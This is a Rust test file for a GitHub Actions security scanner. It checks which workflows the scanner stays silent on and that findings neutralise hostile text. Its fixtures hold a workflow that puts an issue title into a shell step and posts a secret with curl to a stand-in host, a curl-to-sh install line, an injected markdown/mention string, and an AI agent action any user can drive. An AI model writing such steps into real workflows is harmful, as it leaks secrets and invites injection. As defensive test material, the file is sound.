//! What must stay silent: other form with the same meaning, and ordinary work of bots.

use crate::rules_flows::shown::{CI, RULES, may, public, said_on, steps, table, verdicts};

#[test]
fn ordinary_work_is_not_worth_a_word() {
    let labels = "on: pull_request_target\npermissions: {contents: read, pull-requests: write}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/labeler@v5\n";
    let ci = "on: [push, pull_request]\npermissions: {contents: read}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with: {cache: npm}\n      - run: npm ci && npm test\n";
    let used = steps(
        "push",
        "- uses: octo-org/act@v1.2.3\n- uses: actions/checkout@v4\n- run: cargo test",
    );
    table(&[
        ("labels by a workflow that reads no contents", String::new(), labels.to_owned(), &[]),
        ("tests", String::new(), ci.to_owned(), &[]),
        (
            "an update by a dependency bot",
            used.clone(),
            used.replace("v1.2.3", "v1.2.4").replace("checkout@v4", "checkout@v5"),
            &[],
        ),
        (
            "a tool from the network in a job that holds nothing",
            String::new(),
            steps("push", "- run: curl -sSf https://sh.rustup.invalid | sh"),
            &[],
        ),
        ("less than before", may(&used, "contents: write"), used, &[]),
    ]);
}

#[test]
fn another_form_of_the_same_grants_nothing() {
    let block = "on:\n  issues:\n    types: [opened]\npermissions:\n  contents: write\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\" && curl -d \"$K\" https://x.invalid/\n        env:\n          K: ${{ secrets.KEY }}\n";
    let flow = "# triage\non: {issues: {types: ['opened']}}\njobs:\n  build:\n    steps:\n      - env: {K: '${{secrets.KEY}}'}\n        run: 'echo \"${{ github.event.issue.title }}\" && curl -d \"$K\" https://x.invalid/'\n    runs-on: 'ubuntu-latest'\npermissions: {contents: write}\n";
    table(&[
        ("as flow", block.to_owned(), flow.to_owned(), &[]),
        ("as block", flow.to_owned(), block.to_owned(), &[]),
    ]);
    let moved = said_on(&public(), &[(CI, block)], &[(".github/workflows/triage.yml", block)]);
    assert_eq!(moved, Vec::<String>::new(), "a file with another name");
    assert!(!said_on(&public(), &[], &[(CI, block)]).is_empty(), "it does grant");
}

#[test]
fn foreign_text_does_not_act_in_a_sentence() {
    let hostile = "on: push\npermissions: {}\njobs:\n  build:\n    environment: '@acme/everyone ![x](http://x.invalid/)'\n    runs-on: ubuntu-latest\n    steps:\n      - run: x\n        env: {K: '${{ secrets.KEY }}'}\n";
    let found = verdicts(&public(), &[], &[(CI, hostile)]);
    let message = &found[0].message;
    for part in ["@acme", "![x]", "](http", "http://"] {
        assert!(!message.contains(part), "{part}: {message}");
    }
    let said = said_on(&public(), &[], &[(CI, hostile)]);
    assert!(said[0].contains("`@acme/everyone ![x](http://x.invalid/)`"), "readable: {said:#?}");
}

#[test]
fn a_new_agent_is_left_to_the_rules_about_agents() {
    let agent = "- uses: anthropics/claude-code-action@v1\n  with:\n    anthropic_api_key: ${{ secrets.ANTHROPIC_API_KEY }}\n    allowed_non_write_users: '*'";
    let triage = may(&steps("issues", agent), "contents: write, id-token: write");
    table(&[("an agent that anyone can drive", String::new(), triage, &[])]);
}

#[test]
fn every_rule_of_the_group_is_there_once_with_its_page() {
    for id in RULES {
        let found: Vec<_> = beholden::rules::files::all().filter(|rule| rule.id == *id).collect();
        assert_eq!(found.len(), 1, "{id}");
        let rule = found[0];
        assert!(rule.docs.starts_with(&format!("# {}\n", rule.title)), "{id}: {}", rule.title);
        for heading in ["What it finds", "Why it matters", "What to do", "How to accept it"] {
            assert!(rule.docs.contains(&format!("## {heading}\n")), "{id}: {heading}");
        }
        assert!(!rule.tags.is_empty(), "{id}");
    }
}
